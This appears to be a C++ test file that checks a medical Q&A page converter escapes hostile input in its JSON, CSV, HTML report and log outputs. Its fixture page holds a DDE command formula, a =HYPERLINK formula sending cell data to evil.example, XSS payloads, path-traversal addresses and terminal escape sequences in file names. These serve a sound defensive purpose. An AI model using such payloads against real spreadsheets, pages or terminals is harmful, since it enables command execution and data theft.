// One hostile page through every output: what it holds runs nowhere, names no file, and is read by
// nobody else.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <sys/stat.h>

#include <filesystem>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>
#include <string>

#include "tests/apps/program.h"
#include "tests/support/temp_folder.h"

namespace medloom {
namespace {

namespace fs = std::filesystem;
using test::Finished;
using test::TempFolder;
using ::testing::HasSubstr;
using ::testing::Not;

// Markup that survives as text, ends of scripts, line separators of JavaScript, terminal escapes,
// formulas, and a title and an address that would be paths.
const std::string kPage =
    "<html><head><title>../../evil =cmd|' /C calc'!A0</title>"
    "<link rel=\"canonical\" href=\"https://example.org/../../../etc/evil\"></head><body>"
    "<h1>=HYPERLINK(\"https://evil.example/?\"&amp;A1)</h1><div class=\"question\"><p>"
    "+請問 &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; \u2028 \u2029 \u001b[2J\u009b31m "
    "&lt;!--&lt;img src=x onerror=alert(2)&gt; 腰痛兩週該看哪一科呢？</p></div><div "
    "class=\"answer\"><p>@可以先看骨科，多休息 &lt;/textarea&gt;&lt;svg onload=alert(3)&gt; "
    "並且少提重物，兩週後若沒有好轉再照X光。</p></div></body></html>";

class OutputSafety : public ::testing::Test {
 protected:
  OutputSafety() {
    options_.environment = {"MEDLOOM_CACHE="};
    folder_.write("in/\x1b]0;evil\x07.html", kPage);
    folder_.write("in/bad\x1b[31m.html", "\x89PNG\r\n\x1a\n");
    folder_.write("out/.keep", "");
  }

  Finished run(std::vector<std::string> words) {
    words.insert(words.begin(), "run");
    words.push_back(folder_.path("in"));
    return test::medloom(words, options_);
  }
  std::string out(const std::string& name) const { return folder_.path("out/" + name); }

  TempFolder folder_;
  test::ProgramOptions options_;
};

// No control character but the line feed, in UTF-8 or as a bare byte.
void expect_no_controls(const std::string& text) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    const auto c = static_cast<unsigned char>(text[i]);
    EXPECT_FALSE((c < 0x20 && c != '\n' && c != '\r') || c == 0x7F) << "at " << i << ": " << text;
    if (c == 0xC2 && i + 1 < text.size()) {
      EXPECT_GE(static_cast<unsigned char>(text[i + 1]), 0xA0) << "at " << i << ": " << text;
    }
  }
}

TEST_F(OutputSafety, JsonMayStandInAScript) {
  for (const std::string form : {"record", "qa", "jsonld", "bulk"}) {
    SCOPED_TRACE(form);
    const Finished done = run({"--as", form});
    EXPECT_EQ(done.code, 1) << done.err;
    EXPECT_THAT(done.out, HasSubstr("腰痛"));
    for (const char* text : {"</", "<!--", "<script", "\u2028", "\u2029"}) {
      EXPECT_THAT(done.out, Not(HasSubstr(text)));
    }
    expect_no_controls(done.out);
    std::istringstream lines(done.out);
    for (std::string line; std::getline(lines, line);) {
      EXPECT_FALSE(nlohmann::json::parse(line, nullptr, false).is_discarded()) << line;
    }
  }
}

TEST_F(OutputSafety, CsvHasNoFormula) {
  const Finished done = run({"--as", "csv"});
  EXPECT_THAT(done.out, HasSubstr("腰痛"));
  bool quoted = false;
  bool begins = true;
  for (const char c : done.out) {
    if (begins && c == '"' && !quoted) {
      quoted = true;
      continue;  // the cell's text begins behind it
    }
    if (begins) {
      EXPECT_EQ(std::string_view("=+-@\t").find(c), std::string_view::npos) << done.out;
    }
    begins = !quoted && (c == ',' || c == '\n');
    if (quoted && c == '"') quoted = false;
  }
}

TEST_F(OutputSafety, TheReportRunsNothingOfAPage) {
  const Finished done = run({"-o", out("r.jsonl"), "--report", out("r.html")});
  EXPECT_EQ(done.code, 1) << done.err;
  const std::string html = folder_.read("out/r.html");
  EXPECT_THAT(html, HasSubstr("Content-Security-Policy"));
  EXPECT_THAT(html, HasSubstr("default-src 'none'"));
  for (const char* text :
       {"unsafe-inline", "unsafe-eval", "alert(1)</script>", "<img src=x", "<svg onload"}) {
    EXPECT_THAT(html, Not(HasSubstr(text)));
  }
}

TEST_F(OutputSafety, NothingOfAPageReachesTheTerminal) {
  for (const std::string form : {"text", "json"}) {
    SCOPED_TRACE(form);
    const Finished done = run({"-o", out("r-" + form + ".jsonl"), "--log-format", form, "--rejects",
                               out("rejects-" + form + ".jsonl")});
    EXPECT_EQ(done.code, 1);
    EXPECT_FALSE(done.err.empty());
    expect_no_controls(done.err);
    expect_no_controls(folder_.read("out/rejects-" + form + ".jsonl"));
  }
}

TEST_F(OutputSafety, FilesAreTheOwnersAndNamedByTheUser) {
  ::umask(0);
  const Finished done =
      run({"-o", out("r.jsonl"), "--split", "1KiB", "--rejects", out("rejects.jsonl"), "--trace",
           out("trace.jsonl"), "--stats", out("stats.json"), "--report", out("report.html")});
  EXPECT_EQ(done.code, 1) << done.err;
  EXPECT_EQ(
      test::medloom({"kb", "load", out("r-00001.jsonl"), "--to", out("base.db")}, options_).code,
      0);
  std::set<std::string> names;
  for (const auto& entry : fs::recursive_directory_iterator(folder_.path("out"))) {
    if (entry.path().filename() == ".keep") continue;
    struct stat info {};
    ASSERT_EQ(::stat(entry.path().c_str(), &info), 0);
    EXPECT_EQ(info.st_mode & 0077, 0U) << entry.path();
    const std::string name = entry.path().lexically_relative(folder_.path("out")).string();
    EXPECT_EQ(name.find("evil"), std::string::npos) << name;
    EXPECT_EQ(name.find("bad"), std::string::npos) << name;
    names.insert(name);
  }
  for (const char* name :
       {"r-00001.jsonl", "rejects.jsonl", "trace.jsonl", "stats.json", "report.html", "base.db"}) {
    EXPECT_EQ(names.count(name), 1U) << name;
  }
  // Nothing beside it, nothing above it.
  std::set<std::string> beside;
  for (const auto& entry : fs::directory_iterator(folder_.path())) {
    beside.insert(entry.path().filename().string());
  }
  EXPECT_EQ(beside, (std::set<std::string>{"in", "out"}));
}

TEST_F(OutputSafety, MembersOfAnArchiveAreNeverWritten) {
  const std::string http = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + kPage;
  folder_.write("crawl.warc",
                "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: file:///../../evil\r\n"
                "Content-Type: application/http;msgtype=response\r\nContent-Length: " +
                    std::to_string(http.size()) + "\r\n\r\n" + http + "\r\n\r\n");
  const Finished done =
      test::medloom({"run", folder_.path("crawl.warc"), "-o", out("r.jsonl")}, options_);
  EXPECT_LE(done.code, 1) << done.err;
  for (const auto& entry : fs::recursive_directory_iterator(folder_.path("out"))) {
    const std::string name = entry.path().lexically_relative(folder_.path("out")).string();
    EXPECT_TRUE(name == ".keep" || name.starts_with("r.jsonl")) << name;
  }
}

}  // namespace
}  // namespace medloom
